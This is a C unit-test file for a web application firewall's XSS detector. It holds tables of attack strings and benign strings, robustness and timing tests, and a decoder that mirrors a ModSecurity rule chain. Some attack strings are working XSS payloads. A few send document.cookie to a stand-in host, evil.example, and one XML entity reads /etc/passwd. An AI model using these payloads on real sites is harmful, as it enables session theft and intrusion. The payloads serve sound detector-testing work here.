/* Tests for src/waf/detect/xss.c (@detectXSS).
 *
 * Three kinds: hand-written tables (attacks and ordinary text, with a
 * marker for known misses), robustness on hostile bytes, and corpus runs
 * that read the CRS regression tests and the benchmark corpus from
 * /work/shared at test time (skipped with a message when absent). The
 * corpus runs apply the same transformation chain as CRS rule 941100
 * (utf8toUnicode, urlDecodeUni, htmlEntityDecode, jsDecode, cssDecode,
 * removeNulls) with a small test-local decoder, so the detector sees what
 * it will see in production. XSS_TEST_VERBOSE=1 lists the CRS tests that
 * are missed; XSS_TEST_VALUES=1 prints every value handed to the detector. */
#include "waf/detect/detect.h"
#include "../../t.h"

#include <dirent.h>
#include <libxml/parser.h>
#include <libxml/tree.h>
#include <stdint.h>
#include <stdlib.h>
#include <strings.h>
#include <time.h>
#include <yajl/yajl_tree.h>
#include <yaml.h>
#include <zstd.h>

#define CRS_TESTS "/work/shared/crs/tests/regression/tests"
#define CRS_XSS_DIR CRS_TESTS "/REQUEST-941-APPLICATION-ATTACK-XSS"
#define BENCH_CORPUS "/work/shared/bench/corpus.jsonl.zst"

/* Detection floors just under the measured rates (see docs/internals/xss.md):
 * a change that loses payloads fails here. */
#define XSS_CRS_941_FLOOR_PCT 53
#define XSS_CORPUS_FLOOR_PCT 99

static bool xss(const char *s)
{
    struct detect_result r;
    return detect_xss(s, strlen(s), &r);
}

/* ---- hand-written tables ---------------------------------------------- */

struct xss_case {
    const char *in;
    bool expect;
    bool known_fail; /* documented miss: reported, not counted as failure */
};

static const struct xss_case attack_cases[] = {
    {"<script>alert(1)</script>", true, false},
    {"<ScRiPt >alert(1)</sCrIpT>", true, false},
    {"<script", true, false},
    {"<script/src=//evil.example/x.js>", true, false},
    {"<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>", true, false},
    {"<img src=x onerror=alert(1)>", true, false},
    {"<IMG SRC=x ONERROR=alert(1)>", true, false},
    {"<img src=x onerror\n=\nalert(1)>", true, false},
    {"<svg/onload=alert(1)>", true, false},
    {"<svg onload=alert(1)", true, false},
    {"<body onload=alert(1)>", true, false},
    {"<details open ontoggle=alert(1)>", true, false},
    {"<input autofocus onfocus=alert(1)>", true, false},
    {"<xss onbeforehellfreezes=alerw(1)>", true, false},
    {"<a onmouseover='alert(1)'>x</a>", true, false},
    {"<a href=\"javascript:alert(1)\">x</a>", true, false},
    {"<a href=javascript:alert(1)>x</a>", true, false},
    {"<a href=\" JaVaScRiPt:alert(1)\">x</a>", true, false},
    {"<a href=\"jav\tascript:alert(1)\">x</a>", true, false},
    {"<a href=\"jav&#x09;ascript:alert(1)\">x</a>", true, false},
    {"<a href=\"javascript&colon;alert(1)\">x</a>", true, false},
    {"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">", true, false},
    {"<a href=\"&#0000106avascript:alert(1)\">", true, false},
    {"<a href=\"vbscript:msgbox(1)\">", true, false},
    {"<iframe src=\"javascript:alert(1)\"></iframe>", true, false},
    {"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", true, false},
    {"<embed src=x.swf>", true, false},
    {"<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", true, false},
    {"<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", true, false},
    {"<div style=\"width: expression(alert(1))\">", true, false},
    {"<div style=\"width: exp/**/ression(alert(1))\">", true, false},
    {"<div style=\"width: \\65xpression(alert(1))\">", true, false},
    {"<div style=\"background:url(javascript:alert(1))\">", true, false},
    {"<div style=\"behavior: url(x.htc)\">", true, false},
    {"<div style=\"-moz-binding:url(x.xml#xss)\">", true, false},
    {"<style>@import 'x.css';</style>", true, false},
    {"<link rel=stylesheet href=//evil.example/x.css>", true, false},
    {"<base href=//evil.example/>", true, false},
    {"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", true, false},
    {"<form action=//evil.example/><input name=pw>", true, false},
    {"<button formaction=javascript:alert(1)>x</button>", true, false},
    {"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", true, false},
    {"<svg><set attributeName=onmouseover to=alert(1)>", true, false},
    {"<animate attributeName=href values=\"x;javascript:alert(1)\">", true, false},
    {"<math><maction actiontype=statusline xlink:href=javascript:alert(1)>", true, false},
    {"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", true, false},
    {"<!--<img src=\"--><img src=x onerror=alert(1)//\">", true, false},
    {"<!-- <script>alert(1)</script> -->", true, false},
    {"<? foo=\"><script>alert(1)</script>\">", true, false},
    {"<?import namespace=t implementation=#default#time2>", true, false},
    {"<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", true, false},
    {"<!ENTITY x \"y\">", true, false},
    {"<scr<script>ipt>alert(1)</scr</script>ipt>", true, false},
    {"</textarea><script>new Image().src='//evil.example/?c='+document.cookie</script>", true, false},
    {"'\"><img src=x onerror=fetch('//evil.example/'+document.cookie)>", true, false},
    {"\" onmouseover=alert(1) x=\"", true, false},
    {"\"onmouseover=\"alert(1)", true, false},
    {"' onfocus='alert(1)' autofocus '", true, false},
    {"x onmouseover=alert(1)", true, false},
    {"x\tonclick=alert`1`", true, false},
    {"\" style=\"width:expression(alert(1))", true, false},
    {"\"><svg onload=alert(1)>", true, false},
    {"javascript:alert(1)", true, false},
    {"  javascript:alert(document.domain)", true, false},
    {"javascript://%0aalert(1)", true, false},
    {"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", true, false},
    {"<a href=\"jAvAsCrIpT&#x3a;alert(1)\">", true, false},
    {"<video><source onerror=\"alert(1)\">", true, false},
    {"<marquee onstart=alert(1)>", true, false},
    {"<applet code=x.class>", true, false},
    {"<frameset onload=alert(1)>", true, false},
    {"<isindex type=image src=1 onerror=alert(1)>", true, false},
    {"<img src=`x`onerror=alert(1)>", true, false},
    {"</a onmouseover=alert(1)>", true, false},
    {"<x onend=", true, false},
    {"\"onzoom=", true, false},
    {"'formaction=", true, false},
    {"<a onclick=\"", true, false},
    {"  onload= ", true, false},
    {"onerror=alert(1)", true, false},
    {"autofocus onfocus=alert(1)", true, false},
    {"ja&tab;vascript:", true, false},
    {"v&newline;b&tab;s&newline;c&newline;r&tab;i&tab;p&newline;t&colon;:", true, false},
    {"<meta charset=\"UTF-7\">", true, false},
    {"<:vmlframe src=x>", true, false},
    {"color:red;background:url(javascript:alert(1))", true, false},
    {"width:expression(alert(1))", true, false},
    {"a:b;-moz-binding:url(//evil.example/x.xml#x)", true, false},
    {"behavior: url(x.htc)", true, false},
    {"x<script>alert(1)</script>", true, false},
    {"List<script src=//evil.example/x.js>", true, false},
    {"<OBJECT data =", true, false},
    {"<iframe src=//evil.example/>", true, false},
    {"<svg xmlns=\"http://www.w3.org/2000/svg\">", true, false},
    {"data:,<svg onload=alert(1)>", true, false},
    {"<style>@import'//evil.example/x.css'", true, false},
    {"<import implementation=\"#default#time2\">", true, false},
    {"<!DOCTYPE foo SYSTEM \"bar\" [ ]>", true, false},
    {"<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">", true, false},
    {"<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>", true, false},
    {"<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072"
     "\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
     true, false},
    {"<a\"/onclick=(confirm)()>click", true, false},
    {"<d3v/onauxclick=[2].some(confirm)>click", true, false},
    {"<details/open/ontoggle=confirm`1`>", true, false},
    {"<a/href=\"&#74;ava\n\r\tscript&colon;alert()\">click", true, false},
    /* whitespace ends an unquoted value: the browser sees href="&#74;ava" */
    {"<a/href=&#74;ava\n\r\tscript&colon;alert()>click", true, true},
    {"<svg/onload=&#97&#108&#101&#114&#00116&#40&#41&#x2f&#x2f", true, false},
    {"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", true, true},
    {"\\\";alert('XSS');//", true, true},
    /* Known misses: not HTML to a modern browser, but some XSS cheat-sheet
     * entries rely on them. Kept visible so a fix shows up as progress. */
    {"\xbcscript\xbe" "alert(\xa2XSS\xa2)\xbc/script\xbe", true, false},
    {"alert(document.cookie)", true, true},
    {"<img src=x:alert(alt) onerror=eval(src)>", true, false},
    {"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", true, false},
};

/* Text people really type into forms, search boxes, headers and APIs. */
static const char *const benign_cases[] = {
    "a<b and c>d", "x < 3", "x<3", "if (a < b && c > d) return;", "1 <= 2 >= 0",
    "I <3 you", "<3", "<john@example.com>", "John Doe <john.doe@example.com>",
    "<https://example.com/path?q=1>", "onion rings", "one=two", "online", "one two three",
    "a+b=c", "C++ and C#", "1+ADw-2", "+ADw-b+AD4-bold+ADw-/b+AD4-",
    "\xd0\xbc\xd0\xbe\xd1\x81\xd0\xba\xd0\xb2\xd0\xb0", "\xbc\xbc", "\xbe\xbe", "<html xmlns>",
    "onsale", "only one", "ontology of things", "Hello, world!", "O'Reilly",
    "Shaquille O'Neal", "it's \"quoted\"", "5' 11\" tall", "He said \"hi\" and left",
    "the \"online\" store", "rock 'n' roll", "don't", "a=b&c=d", "key=value",
    "x=1; y=2", "SELECT name FROM users", "price >= 100", "a -> b", "a => b",
    "<b>bold</b>", "<i>italic</i> and <em>emphasis</em>", "<p>Hello</p>",
    "<a href=\"https://example.com\">link</a>", "<img src=\"cat.png\" alt=\"a cat\">",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">", "<br/>", "<ul><li>one</li></ul>",
    "std::vector<int> v;", "List<String> names", "Map<String, Object>",
    "#include <stdio.h>", "template <typename T>", "Array<{ id: number }>",
    "**bold** and _italic_", "# Heading\n\n- item\n- item", "[link](https://example.com)",
    "`code` span", "```js\nconst x = 1;\n```", "> quoted text", "1. first\n2. second",
    "https://example.com/search?q=shoes&page=2", "http://localhost:8080/",
    "mailto:someone@example.com", "tel:+1-555-0100", "ftp://files.example.com/pub",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8",
    "/api/v1/products?id=42", "../images/logo.png", "C:\\Program Files\\App",
    "{\"name\":\"shoe\",\"size\":42}", "{\"online\":true,\"onsale\":false}",
    "[1,2,3]", "{\"a\":{\"b\":[\"c\",\"d\"]}}", "{\"query\":\"{ user(id: 1) { name } }\"}",
    "JavaScript: The Good Parts", "javascript tutorial", "javascript:", "Javascript: beginner",
    "learn vbscript", "onclick handler react", "how to use onload in body",
    "document.getElementById", "alert box", "script writer", "iframe vs object",
    "svg icons", "embedded systems", "style guide", "form builder", "base64 encoding",
    "meta description", "link building", "Fish & Chips", "AT&T", "Tom & Jerry",
    "&amp; is an ampersand", "R&D department", "Ben &amp; Jerry's",
    "Size: 10.5 (US)", "Time: 12:34:56", "ratio 3:2", "Note: call me", "Re: your order",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "curl/8.5.0", "python-requests/2.31.0",
    "GA1.2.815128908.1715898816", "sessionid=800ed9e3ab26fcda5b4796fd2b27c130",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjMifQ.sig", "5f3c2a1b-aaaa-bbbb",
    "Nice shoes, would buy again! 5/5", "Bought these for my son; they run small.",
    "Müller & Söhne GmbH", "東京都渋谷区", "Café crème", "naïve résumé",
    "50% off <today only>", "<<< back", ">>> next", "<-- arrow", "<!-- not really -->",
    "<!DOCTYPE html>", "<?xml version=\"1.0\"?>", "<br>", "<hr>",
    "a < b > c", "x<y>z", "<foo bar=baz>", "<div class=\"note\">hi</div>",
    "<span title=\"on sale\">", "<a title=\"javascript is fun\">x</a>",
    "<td online=yes>", "\" or \"1\"=\"1", "' or 1=1 --", "1' and '1'='1",
    "x=\"1\" y=\"2\"", "width=100 height=200", "color: red; font-size: 12px",
    "style=\"color:red\"", "<p style=\"color: red; margin: 0 auto\">", "on=1", "onx=1",
    "a onclick", "once=upon a time", "only=true", "oneself=1", "\"ongoing\" issue",
    "one \"=\" two", "expression of interest", "url(image.png)",
    /* base64 and tokens: '/' and '=' are in the alphabet, "on" is common */
    "VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yayBzaW5jZSB5ZWFycyBvbiBDUlMuIEh1bQo/onafe=",
    "abc/onload=", "a+b/onclick==", "t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51onabcd",
    "regular expression(s) in perl", "customer behavior: good (mostly)",
    "background: url(img/bg.png) no-repeat", "font: 12px/1.5 sans-serif; color: #333",
    "javascript: (the good parts)", "what does <link> do", "<base> tag", "<meta>", "what is an <iframe>", "<svg>", "Local<Object> exports",
    "List<Script> scripts", "Optional<Style> s", "--format=<style>", "Data: none",
    "data: 'Hello World!'", "const onError = (err) => {", "implementation = x.y()",
    "(r'(<!DOCTYPE)(\\s+)([^>\\s]+)',", "let onChange = v => setX(v)", "el.onclick = go;", "<td online-status=\"a.b\">", "note: see (1) above", "<td online=yes>",
};

TEST(xss_attack_table)
{
    int fixed = 0;
    for (size_t i = 0; i < sizeof(attack_cases) / sizeof(attack_cases[0]); i++) {
        const struct xss_case *c = &attack_cases[i];
        bool got = xss(c->in);
        if (c->known_fail) {
            if (got == c->expect)
                fixed++;
            continue;
        }
        if (got != c->expect)
            t_fail(t, __FILE__, __LINE__, "detect_xss(\"%s\") == %d, expected %d", c->in, got,
                   c->expect);
    }
    if (fixed)
        printf("  xss_attack_table: %d known failure(s) now pass; clear their marker\n", fixed);
}

TEST(xss_benign_table)
{
    size_t nb = sizeof(benign_cases) / sizeof(benign_cases[0]);
    CHECK(nb >= 100);
    for (size_t i = 0; i < nb; i++) {
        struct detect_result r;
        if (detect_xss(benign_cases[i], strlen(benign_cases[i]), &r))
            t_fail(t, __FILE__, __LINE__, "false positive on \"%s\": %s (%s)", benign_cases[i],
                   r.reason, r.fingerprint);
    }
}

/* Regression: base64 holds '/', letters and '=' padding, so "/onafe=" at
 * the end of a token once read as an event handler left open. */
TEST(xss_base64_slash_on_is_not_an_attribute)
{
    static const char b64[] = "VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yayBzaW5jZSB5ZWFycyBvbiBDUlMuIEh1bQo/onafe=";
    CHECK(!xss(b64));
    /* ... while a real attribute after whitespace, or in a tag, still is. */
    CHECK(xss("x onafe="));
    CHECK(xss("<svg/onload=alert(1)>"));
}

TEST(xss_reason_and_fingerprint)
{
    static const struct {
        const char *in;
        const char *reason;
        const char *fp;
    } cases[] = {
        {"<script>", "tag that runs or loads active content", "d:script"},
        {"<img src=x onerror=alert(1)>", "event handler attribute", "d:onerror"},
        {"\" onmouseover=alert(1) x=\"", "event handler attribute", "a:onmouseover"},
        {"'><a href=javascript:alert(1)>", "script URL in attribute", "d:href"},
        {"javascript:alert(1)", "script URL", "u:javascript:"},
        {"<div style=\"x:expression(1)\">", "script in style attribute", "d:expression("},
        {"<scr<script>ipt>x</scr</script>ipt>", "tag that runs or loads active content", "l:script"},
        {"<averyveryverylongtagname onclick=x()>", "event handler attribute", "d:onclick"},
        {"<a onmouseoverandthensomemore=x()>", "event handler attribute", "d:onmouseoveran"},
        {"<x onend=", "handler attribute left open at end of input", "d:onend"},
        {"a:b;-moz-binding:url(x)", "script in CSS", "c:-moz-binding:"},
        {"<meta http-equiv=refresh content=0;url=//x>", "meta http-equiv or charset", "d:http-equiv"},
        {"+ADw-script+AD4-", "tag in UTF-7", "e:+adw-"},
        {"<x:y xmlns:x=\"http://www.w3.org/1999/xhtml\">", "xml namespace declaration", "d:xmlns:x"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct detect_result r;
        CHECK(detect_xss(cases[i].in, strlen(cases[i].in), &r));
        CHECK_STR(r.reason, cases[i].reason);
        CHECK_STR(r.fingerprint, cases[i].fp);
        CHECK(strlen(r.fingerprint) < sizeof(r.fingerprint));
    }
    struct detect_result r;
    memset(&r, 'x', sizeof(r));
    CHECK(!detect_xss("plain", 5, &r));
    CHECK(r.reason == NULL);
    CHECK_STR(r.fingerprint, "");
}

/* ---- hostile and edge-case input -------------------------------------- */

TEST(xss_bad_input)
{
    struct detect_result r;
    CHECK(!detect_xss(NULL, 0, &r));
    CHECK(!detect_xss("", 0, &r));
    CHECK(!detect_xss("<", 1, &r));
    CHECK(!detect_xss("<!", 2, &r));
    CHECK(!detect_xss("<!-", 3, &r));
    CHECK(!detect_xss("<!--", 4, &r));
    CHECK(!detect_xss("</", 2, &r));
    CHECK(!detect_xss("<?", 2, &r));
    CHECK(!detect_xss("<a", 2, &r));
    CHECK(!detect_xss("<a href", 7, &r));
    CHECK(!detect_xss("<a href=", 8, &r));
    CHECK(!detect_xss("<a href=\"", 9, &r));
    CHECK(!detect_xss("<a href=\"&", 10, &r));
    CHECK(!detect_xss("<a href=\"&#", 11, &r));
    CHECK(!detect_xss("<a href=\"&#x", 12, &r));
    CHECK(!detect_xss("<p style=\"/*", 12, &r));
    CHECK(!detect_xss("<p style=\"\\", 11, &r));
    CHECK(!detect_xss("\"", 1, &r));
    CHECK(!detect_xss("=", 1, &r));
    CHECK(!detect_xss("&", 1, &r));
    CHECK(detect_xss("<a href=javascript:x()", 22, NULL)); /* res may be NULL */
    CHECK(!detect_xss("<a href=\"&#99999999999999999999;\">", 34, &r));
    CHECK(!detect_xss("<a href=\"&#x110000;avascript:alert(1)\">", 39, &r));

    /* The length is what counts, not a NUL: bytes past n are never read
     * (ASan would see it: the buffer is exactly n bytes). */
    static const char full[] = "<script>";
    char *exact = malloc(7);
    CHECK(exact != NULL);
    if (exact) {
        memcpy(exact, full, 7); /* "<script" without terminator */
        CHECK(detect_xss(exact, 7, &r));
        CHECK(!detect_xss(exact, 4, &r)); /* "<scr" */
        free(exact);
    }
    /* Embedded NULs: a NUL inside a tag name is not "script" to a browser,
     * but one before the tag must not hide it. */
    CHECK(detect_xss("\0<script>", 9, &r));
    CHECK(!detect_xss("<scr\0ipt>", 9, &r));

    /* Every single byte and every byte pair: no crash, no hit. */
    unsigned char buf[2];
    for (int a = 0; a < 256; a++) {
        buf[0] = (unsigned char)a;
        CHECK(!detect_xss((const char *)buf, 1, &r));
        for (int b = 0; b < 256; b++) {
            buf[1] = (unsigned char)b;
            if (detect_xss((const char *)buf, 2, &r))
                t_fail(t, __FILE__, __LINE__, "hit on 2 bytes %02x %02x", a, b);
        }
    }

    /* Pseudo-random bytes drawn from markup characters: must terminate and
     * stay within bounds (sanitizers check); the verdict is not asserted. */
    static const char alphabet[] = "<>/!?-=\"'` \t\nonscriptjav:&#x;(){}\\*e";
    char rnd[64];
    uint32_t x = 2463534242u;
    for (int k = 0; k < 20000; k++) {
        size_t len = (size_t)(k % (int)sizeof(rnd));
        for (size_t i = 0; i < len; i++) {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            rnd[i] = alphabet[x % (sizeof(alphabet) - 1)];
        }
        (void)detect_xss(rnd, len, &r);
    }
}

/* Long pathological inputs must stay linear: each would be quadratic for a
 * scanner that restarts after every '<' or re-reads a value per quote. */
TEST(xss_linear_time)
{
    static const char *const units[] = {"<a ", "<!--", "<a b=\"", "\"", "<a style=\"/*",
                                        "&#", "<<<", "<a a=a ", "' x", "<a href=&#0",
                                        "<style>", "x<script>", "<a style=", "x onclick=",
                                        "+ADw-", "\xbc", "\xbcscript"};
    size_t n = 1 << 20;
    char *buf = malloc(n);
    CHECK(buf != NULL);
    if (!buf)
        return;
    for (size_t u = 0; u < sizeof(units) / sizeof(units[0]); u++) {
        size_t ul = strlen(units[u]);
        for (size_t i = 0; i < n; i++)
            buf[i] = units[u][i % ul];
        struct timespec t0, t1;
        clock_gettime(CLOCK_MONOTONIC, &t0);
        struct detect_result r;
        (void)detect_xss(buf, n, &r);
        clock_gettime(CLOCK_MONOTONIC, &t1);
        double ms = (double)(t1.tv_sec - t0.tv_sec) * 1e3 + (double)(t1.tv_nsec - t0.tv_nsec) / 1e6;
        /* 1 MiB in well under a second even under ASan; quadratic would
         * take minutes. */
        if (ms > 2000)
            t_fail(t, __FILE__, __LINE__, "\"%s\" x 1 MiB took %.0f ms", units[u], ms);
    }
    free(buf);
}

/* ---- the 941100 transformation chain ----------------------------------- */

static int hexval(unsigned char c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    c |= 0x20;
    if (c >= 'a' && c <= 'f')
        return c - 'a' + 10;
    return -1;
}

/* Low byte of a code point, with full-width ASCII (U+FF01..FF5E) folded to
 * ASCII: what ModSecurity's urlDecodeUni/jsDecode do without a unicode map. */
static unsigned char uni_byte(uint32_t cp)
{
    if (cp >= 0xff01 && cp <= 0xff5e)
        return (unsigned char)(cp - 0xfee0);
    return (unsigned char)(cp & 0xff);
}

/* utf8toUnicode followed by urlDecodeUni, in place: multi-byte UTF-8 turns
 * into %uXXXX and that into one byte, so both steps fold into one. */
static size_t utf8_urldecode_uni(char *p, size_t n, bool plus)
{
    size_t o = 0;
    for (size_t i = 0; i < n;) {
        unsigned char c = (unsigned char)p[i];
        if (c == '%' && i + 5 < n && (p[i + 1] == 'u' || p[i + 1] == 'U') && hexval((unsigned char)p[i + 2]) >= 0 &&
            hexval((unsigned char)p[i + 3]) >= 0 && hexval((unsigned char)p[i + 4]) >= 0 &&
            hexval((unsigned char)p[i + 5]) >= 0) {
            uint32_t cp = 0;
            for (int k = 2; k < 6; k++)
                cp = cp * 16 + (uint32_t)hexval((unsigned char)p[i + k]);
            p[o++] = (char)uni_byte(cp);
            i += 6;
        } else if (c == '%' && i + 2 < n && hexval((unsigned char)p[i + 1]) >= 0 &&
                   hexval((unsigned char)p[i + 2]) >= 0) {
            p[o++] = (char)(hexval((unsigned char)p[i + 1]) * 16 + hexval((unsigned char)p[i + 2]));
            i += 3;
        } else if (c == '+' && plus) {
            p[o++] = ' ';
            i++;
        } else if (c >= 0xc2 && c <= 0xf4) {
            size_t len = c >= 0xf0 ? 4 : c >= 0xe0 ? 3 : 2;
            uint32_t cp = c & (len == 2 ? 0x1f : len == 3 ? 0x0f : 0x07);
            size_t k = 1;
            for (; k < len && i + k < n && ((unsigned char)p[i + k] & 0xc0) == 0x80; k++)
                cp = (cp << 6) | ((unsigned char)p[i + k] & 0x3f);
            if (k == len) {
                p[o++] = (char)uni_byte(cp);
                i += len;
            } else {
                p[o++] = (char)c;
                i++;
            }
        } else {
            p[o++] = (char)c;
            i++;
        }
    }
    return o;
}

/* Plain urldecode as ModSecurity applies when it parses ARGS. */
static size_t url_decode(char *p, size_t n)
{
    size_t o = 0;
    for (size_t i = 0; i < n; i++) {
        if (p[i] == '%' && i + 2 < n && hexval((unsigned char)p[i + 1]) >= 0 &&
            hexval((unsigned char)p[i + 2]) >= 0) {
            p[o++] = (char)(hexval((unsigned char)p[i + 1]) * 16 + hexval((unsigned char)p[i + 2]));
            i += 2;
        } else {
            p[o++] = p[i] == '+' ? ' ' : p[i];
        }
    }
    return o;
}

static size_t html_entity_decode(char *p, size_t n)
{
    static const struct {
        const char *name;
        char c;
    } named[] = {{"quot", '"'}, {"amp", '&'}, {"lt", '<'}, {"gt", '>'}, {"nbsp", (char)0xa0}};
    size_t o = 0;
    for (size_t i = 0; i < n;) {
        if (p[i] != '&') {
            p[o++] = p[i++];
            continue;
        }
        size_t j = i + 1;
        if (j < n && p[j] == '#') {
            j++;
            bool hex = j < n && (p[j] == 'x' || p[j] == 'X');
            if (hex)
                j++;
            uint32_t v = 0;
            size_t st = j;
            while (j < n && (hex ? hexval((unsigned char)p[j]) >= 0 : (p[j] >= '0' && p[j] <= '9'))) {
                v = (v * (hex ? 16 : 10) + (uint32_t)hexval((unsigned char)p[j])) & 0xffffff;
                j++;
            }
            if (j > st) {
                if (j < n && p[j] == ';')
                    j++;
                p[o++] = (char)(v & 0xff);
                i = j;
                continue;
            }
        } else {
            bool done = false;
            for (size_t k = 0; k < sizeof(named) / sizeof(named[0]); k++) {
                size_t l = strlen(named[k].name);
                if (n - j >= l && strncasecmp(p + j, named[k].name, l) == 0) {
                    j += l;
                    if (j < n && p[j] == ';')
                        j++;
                    p[o++] = named[k].c;
                    i = j;
                    done = true;
                    break;
                }
            }
            if (done)
                continue;
        }
        p[o++] = p[i++];
    }
    return o;
}

static size_t js_decode(char *p, size_t n)
{
    size_t o = 0;
    for (size_t i = 0; i < n;) {
        if (p[i] != '\\' || i + 1 >= n) {
            p[o++] = p[i++];
            continue;
        }
        char c = p[i + 1];
        if (c == 'u' && i + 5 < n && hexval((unsigned char)p[i + 2]) >= 0 && hexval((unsigned char)p[i + 3]) >= 0 &&
            hexval((unsigned char)p[i + 4]) >= 0 && hexval((unsigned char)p[i + 5]) >= 0) {
            uint32_t cp = 0;
            for (int k = 2; k < 6; k++)
                cp = cp * 16 + (uint32_t)hexval((unsigned char)p[i + k]);
            p[o++] = (char)uni_byte(cp);
            i += 6;
        } else if (c == 'x' && i + 3 < n && hexval((unsigned char)p[i + 2]) >= 0 &&
                   hexval((unsigned char)p[i + 3]) >= 0) {
            p[o++] = (char)(hexval((unsigned char)p[i + 2]) * 16 + hexval((unsigned char)p[i + 3]));
            i += 4;
        } else {
            static const char from[] = "abfnrtv", to[] = "\a\b\f\n\r\t\v";
            const char *f = strchr(from, c);
            p[o++] = (f && c) ? to[f - from] : c;
            i += 2;
        }
    }
    return o;
}

static size_t css_decode(char *p, size_t n)
{
    size_t o = 0;
    for (size_t i = 0; i < n;) {
        if (p[i] != '\\' || i + 1 >= n) {
            p[o++] = p[i++];
            continue;
        }
        size_t j = i + 1;
        uint32_t v = 0;
        int k = 0;
        while (j < n && k < 6 && hexval((unsigned char)p[j]) >= 0) {
            v = v * 16 + (uint32_t)hexval((unsigned char)p[j]);
            j++;
            k++;
        }
        if (k) {
            p[o++] = (char)uni_byte(v);
            if (j < n && (p[j] == ' ' || p[j] == '\t' || p[j] == '\n'))
                j++;
            i = j;
        } else if (p[j] == '\n') {
            i = j + 1;
        } else {
            p[o++] = p[j];
            i = j + 1;
        }
    }
    return o;
}

/* Runs the 941100 chain on a copy of (p, n) and the detector on the result. */
static bool chain_detect(const char *p, size_t n, struct detect_result *r)
{
    char *b = malloc(n + 1);
    if (!b)
        return false;
    memcpy(b, p, n);
    n = utf8_urldecode_uni(b, n, true);
    n = html_entity_decode(b, n);
    n = js_decode(b, n);
    n = css_decode(b, n);
    size_t o = 0;
    for (size_t i = 0; i < n; i++)
        if (b[i])
            b[o++] = b[i];
    bool hit = detect_xss(b, o, r);
    free(b);
    return hit;
}

/* ---- request targets ---------------------------------------------------- */

enum tgt_kind { TGT_ARG, TGT_COOKIE, TGT_UA, TGT_HEADER, TGT_PATH };

struct scan_acc {
    bool hit_941100; /* ARGS, ARGS_NAMES, cookies, User-Agent, XML */
    bool hit_any;    /* plus every header and the path */
    char what[160];
};

static void acc_value(struct scan_acc *a, enum tgt_kind k, const char *p, size_t n)
{
    struct detect_result r;
    if (getenv("XSS_TEST_VALUES"))
        printf("  value[%d]: %.*s\n", (int)k, (int)(n < 200 ? n : 200), p);
    if (!chain_detect(p, n, &r))
        return;
    if (k == TGT_ARG || k == TGT_COOKIE || k == TGT_UA) {
        if (!a->hit_941100)
            snprintf(a->what, sizeof(a->what), "%s [%s] in \"%.*s\"", r.reason, r.fingerprint,
                     (int)(n < 100 ? n : 100), p);
        a->hit_941100 = true;
    }
    a->hit_any = true;
}

/* Splits "a=b&c=d" into names and values, urldecoded like ARGS. */
static void acc_urlencoded(struct scan_acc *a, const char *p, size_t n, char sep)
{
    size_t i = 0;
    while (i <= n && n) {
        const char *e = memchr(p + i, sep, n - i);
        size_t end = e ? (size_t)(e - p) : n;
        const char *eq = memchr(p + i, '=', end - i);
        size_t ne = eq ? (size_t)(eq - p) : end;
        char *tmp = malloc(end - i + 1);
        if (tmp) {
            size_t nl = ne - i;
            memcpy(tmp, p + i, nl);
            nl = sep == '&' ? url_decode(tmp, nl) : nl;
            /* cookie names and values keep their spacing trimmed */
            size_t st = 0;
            while (sep == ';' && st < nl && tmp[st] == ' ')
                st++;
            if (nl > st)
                acc_value(a, sep == '&' ? TGT_ARG : TGT_COOKIE, tmp + st, nl - st);
            if (eq) {
                size_t vl = end - ne - 1;
                memcpy(tmp, p + ne + 1, vl);
                vl = sep == '&' ? url_decode(tmp, vl) : vl;
                acc_value(a, sep == '&' ? TGT_ARG : TGT_COOKIE, tmp, vl);
            }
            free(tmp);
        }
        if (!e)
            break;
        i = end + 1;
    }
}

static void acc_json_node(struct scan_acc *a, yajl_val v, int depth)
{
    if (!v || depth > 64)
        return;
    if (YAJL_IS_STRING(v)) {
        acc_value(a, TGT_ARG, v->u.string, strlen(v->u.string));
    } else if (YAJL_IS_OBJECT(v)) {
        for (size_t i = 0; i < v->u.object.len; i++) {
            acc_value(a, TGT_ARG, v->u.object.keys[i], strlen(v->u.object.keys[i]));
            acc_json_node(a, v->u.object.values[i], depth + 1);
        }
    } else if (YAJL_IS_ARRAY(v)) {
        for (size_t i = 0; i < v->u.array.len; i++)
            acc_json_node(a, v->u.array.values[i], depth + 1);
    }
}

static void acc_json(struct scan_acc *a, const char *p, size_t n)
{
    char *z = strndup(p, n);
    if (!z)
        return;
    yajl_val v = yajl_tree_parse(z, NULL, 0);
    if (v)
        acc_json_node(a, v, 0);
    else
        acc_value(a, TGT_ARG, p, n); /* not JSON after all: one value */
    yajl_tree_free(v);
    free(z);
}

